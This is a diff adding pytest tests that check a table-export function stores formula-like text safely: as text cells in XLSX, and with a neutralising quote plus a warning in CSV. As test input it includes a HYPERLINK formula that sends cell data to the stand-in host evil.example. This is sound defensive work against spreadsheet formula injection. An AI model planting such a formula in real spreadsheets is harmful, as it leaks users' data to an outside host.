@@ -226,6 +226,47 @@ def test_another_table_under_a_name_already_used_replaces_it_with_a_warning(mixe
         explore.save_table(kpis, "kpis.xlsx")
 
 
+def test_no_text_becomes_a_formula_in_a_saved_xlsx(tmp_path, monkeypatch):
+    """openpyxl takes a text beginning with '=' for a formula: a caption `=HYPERLINK(...)` was a live link,
+    `== PROMO ==` a broken formula that lost the caption. Every text is a text cell, as written."""
+    from openpyxl import load_workbook
+
+    monkeypatch.setenv(explore.DERIVED_DIR_VARIABLE, str(tmp_path))
+    link = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    table = pd.DataFrame({"text": [link, "== PROMO ==", "+62 812 3456", "plain"], "reach": [-5, 10, 0, 3]})
+    sheet = load_workbook(explore.save_table(table, "t.xlsx")).active
+    assert [(cell.value, cell.data_type) for cell in sheet["A"]] == [
+        ("text", "s"), (link, "s"), ("== PROMO ==", "s"), ("+62 812 3456", "s"), ("plain", "s")]
+    assert [cell.value for cell in sheet["B"]] == ["reach", -5, 10, 0, 3]
+    assert sheet["A2"].quotePrefix and not sheet["A5"].quotePrefix  # kept as text when edited in Excel
+
+
+def test_a_saved_csv_opens_in_excel_as_text_with_formulas_neutralised_and_says_so(tmp_path, monkeypatch):
+    """A CSV is UTF-8 with a byte-order mark (Excel then reads 'é' as written); a text cell beginning with
+    = + - or @ gets a ' in front, numbers ("-5" as text or as a number) and a lone "-" are kept, and a
+    warning says how many cells of which columns: 1 in 'account' ('@kopi'), 2 in 'text' (the link, '+62…')."""
+    monkeypatch.setenv(explore.DERIVED_DIR_VARIABLE, str(tmp_path))
+    table = pd.DataFrame({"account": ["Café Senja", "@kopi", "-"],
+                          "text": ['=HYPERLINK("http://x/","click")', "+62 812 3456", "-5"],
+                          "reach": [-5, 10, 0]})
+    with pytest.warns(explore.FormulasAsText) as caught:
+        path = explore.save_table(table, "t.csv")
+    data = path.read_bytes()
+    assert data.startswith(b"\xef\xbb\xbf") and "Café".encode("utf-8") in data
+    assert data.decode("utf-8-sig").splitlines() == [
+        "account,text,reach", "Café Senja,\"'=HYPERLINK(\"\"http://x/\"\",\"\"click\"\")\",-5",
+        "'@kopi,'+62 812 3456,10", "-,-5,0"]
+    message = caught[0].message.args[0]
+    assert str(message).startswith(f"3 cells in 'account' and 'text' hold text beginning with =, +, - or @, "
+                                   f"which a spreadsheet opening {path} would run as a formula")
+    assert message.in_language(translator("id")).startswith(
+        f"3 sel di 'account' dan 'text' berisi teks yang diawali =, +, - atau @")
+    with warnings.catch_warnings(record=True) as again:
+        warnings.simplefilter("always")
+        explore.save_table(table.tail(1), "u.csv")  # nothing to neutralise: no word
+    assert not again
+
+
 @pytest.fixture()
 def exports(tmp_path):
     """facebook/business-suite-posts/ with one CSV; instagram/ with a folder of one CSV and a hidden file;
